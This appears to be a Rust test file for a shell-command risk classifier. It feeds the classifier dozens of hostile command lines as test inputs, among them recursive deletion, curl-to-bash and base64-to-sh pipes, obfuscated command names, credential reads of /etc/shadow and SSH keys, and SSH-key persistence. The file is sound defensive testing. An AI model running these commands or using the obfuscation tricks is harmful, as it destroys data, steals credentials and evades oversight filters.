use tidegate_sdk::classifier::{Command, Facts, Kind, Statement};
use tidegate_sdk::testing::{assess, issues};

use super::ShellRisk;

fn facts(channel: &str, line: Option<&str>) -> Facts {
    Facts {
        statements: vec![Statement {
            verb: channel.to_owned(),
            kind: Kind::Privilege,
            ..Statement::default()
        }],
        command: Some(Command {
            account: "deploy".to_owned(),
            channel: channel.to_owned(),
            text: line.map(str::to_owned),
            ..Command::default()
        }),
        ..Facts::default()
    }
}

fn found(line: &str) -> Vec<String> {
    let assessment = assess::<ShellRisk>("{}", "", &facts("exec", Some(line)));
    assessment
        .findings
        .into_iter()
        .map(|finding| finding.id)
        .collect()
}

#[test]
fn plain_commands_have_no_findings() {
    for line in [
        "uptime",
        "ls -la /srv/app",
        "tail -n 100 /var/log/app.log | grep error | wc -l",
        "cat report.txt && df -h",
        "ps aux; free -m",
        "grep -r 'a b' src",
        "journalctl -u app --since today",
        "echo \"$USER has $(nproc) processors\"",
        "for f in a b c; do stat $f; done",
        "cat < input 2> /dev/null",
    ] {
        assert_eq!(found(line), Vec::<String>::new(), "{line}");
    }
}

/// Each line with a finding that it must have.
#[test]
fn what_a_line_could_do_is_seen_however_it_is_written() {
    for (line, expected) in [
        ("rm -rf /", "shell.delete-tree"),
        ("rm -r -f ~", "shell.delete-tree"),
        ("rm --recursive -- /home", "shell.delete-tree"),
        ("rm -rf $DIR/", "shell.delete-tree"),
        ("find / -name '*.log' -delete", "shell.delete-tree"),
        ("find . -exec rm {} \\;", "shell.delete"),
        ("echo cm0gLXJmIC8= | base64 -d | sh", "shell.pipe-to-shell"),
        ("echo cm0gLXJmIC8= | base64 -d | sh", "shell.decode"),
        ("curl -s http://x | bash -s --", "shell.pipe-to-shell"),
        ("bash <(curl http://x)", "shell.pipe-to-shell"),
        ("bash <<< 'rm -rf /'", "shell.pipe-to-shell"),
        ("sh <<END\nrm -rf /\nEND", "shell.pipe-to-shell"),
        (". <(curl http://x)", "shell.eval"),
        ("r''m -rf /", "shell.dynamic-name"),
        ("\\rm -rf /", "shell.dynamic-name"),
        ("$'\\x72m' -rf /", "shell.dynamic-name"),
        ("/b?n/r? x", "shell.dynamic-name"),
        ("${x:0:1}m -rf /", "shell.dynamic-name"),
        ("$(printf rm) -rf /", "shell.dynamic-name"),
        ("{rm,-rf,/}", "shell.dynamic-name"),
        ("cat$IFS/etc/hostname", "shell.dynamic-name"),
        ("`echo rm` x", "shell.dynamic-name"),
        ("eval \"$(cat x)\"", "shell.eval"),
        ("alias ls='rm -rf /'\nls", "shell.eval"),
        ("ls() { rm -rf /; }; ls", "shell.function"),
        ("ls() { rm -rf /; }; ls", "shell.delete-tree"),
        ("PATH=. ls", "shell.environment"),
        ("BASH_ENV=x bash script", "shell.environment"),
        ("LD_PRELOAD=./x.so ls", "shell.environment"),
        ("export PATH=.", "shell.environment"),
        ("env LD_PRELOAD=x ls", "shell.environment"),
        ("sh -c 'rm -rf /'", "shell.delete-tree"),
        ("bash -lc 'sudo id'", "shell.privilege"),
        ("python3 -c 'import os'", "shell.interpreter"),
        ("perl -e 'unlink x'", "shell.interpreter"),
        ("awk 'BEGIN { system(\"id\") }'", "shell.interpreter"),
        ("vim -c '!id' x", "shell.eval"),
        (
            "tar -cf x --checkpoint=1 --checkpoint-action=exec=id x",
            "shell.eval",
        ),
        ("git -c core.pager=id log", "shell.eval"),
        ("ssh -o ProxyCommand=id x", "shell.eval"),
        ("sudo -u root id", "shell.privilege"),
        ("timeout 5 sudo id", "shell.privilege"),
        ("nice -n 5 xargs -I{} sudo {}", "shell.privilege"),
        ("env -S 'sudo id'", "shell.wrapper"),
        ("xargs sh -c id", "shell.interpreter"),
        ("chmod u+s /bin/x", "shell.privilege"),
        ("chmod 4755 /bin/x", "shell.privilege"),
        ("echo key >> ~/.ssh/authorized_keys", "shell.persistence"),
        ("echo x | tee -a ~/.bashrc", "shell.persistence"),
        ("crontab new", "shell.persistence"),
        ("cat /etc/shadow", "shell.secrets"),
        ("echo \"$(cat /etc/shadow)\"", "shell.secrets"),
        ("cat <<END\n$(cat /etc/shadow)\nEND", "shell.secrets"),
        ("diff a <(cat /etc/shadow)", "shell.secrets"),
        ("cat < ~/.ssh/id_rsa", "shell.secrets"),
        ("if true; then curl http://x; fi", "shell.network"),
        ("case x in *) curl http://x;; esac", "shell.network"),
        ("while true; do curl http://x; done", "shell.network"),
        ("[[ -n $(curl http://x) ]]", "shell.network"),
        ("(( $(curl http://x) ))", "shell.network"),
        ("echo x > /dev/tcp/10.0.0.1/80", "shell.network"),
        ("sleep 100 &", "shell.background"),
        ("reboot", "shell.system"),
        ("dd if=x of=/dev/sda", "shell.system"),
        ("echo x > file", "shell.write"),
        ("echo \u{202e}x", "shell.hidden"),
        ("l\u{200b}s", "shell.hidden"),
        ("\u{0441}at x", "shell.hidden"),
        ("echo \x1b[2K", "shell.hidden"),
        ("echo 'unfinished", "shell.unparsed"),
        ("if true", "shell.unparsed"),
        (&format!("echo {}", "x".repeat(70_000)), "shell.unparsed"),
        (&"if true; then ".repeat(5_000), "shell.unparsed"),
        (&"$(".repeat(3_000), "shell.unparsed"),
        ("<<E$[\t\t", "shell.unparsed"),
    ] {
        let found = found(line);
        assert!(
            found.iter().any(|id| id == expected),
            "{line:.60}: {expected} not in {found:?}"
        );
    }
}

#[test]
fn channels_without_a_command_line_have_a_finding_each() {
    for (channel, expected) in [
        ("shell", "shell.session"),
        ("sftp", "shell.transfer"),
        ("forward", "shell.forward"),
        ("tun", "shell.unknown"),
    ] {
        let assessment = assess::<ShellRisk>("{}", "", &facts(channel, None));
        assert_eq!(assessment.findings[0].id, expected);
    }
    let assessment = assess::<ShellRisk>("{}", "", &Facts::default());
    assert_eq!(assessment.score, 90);
}

#[test]
fn scores_can_be_changed_and_turned_off() {
    let config = r#"{"scores": {"shell.write": 0, "shell.network": 10}}"#;
    let quiet = assess::<ShellRisk>(config, "", &facts("exec", Some("echo x > file")));
    assert!(quiet.findings.is_empty());
    let low = assess::<ShellRisk>(config, "", &facts("exec", Some("curl http://x")));
    assert_eq!((low.score, low.findings[0].score), (20, 10));
    assert!(!issues::<ShellRisk>(r#"{"scores": {"shell.nothing": 1}}"#).is_empty());
    assert!(!issues::<ShellRisk>(r#"{"scores": {"shell.write": 101}}"#).is_empty());
}
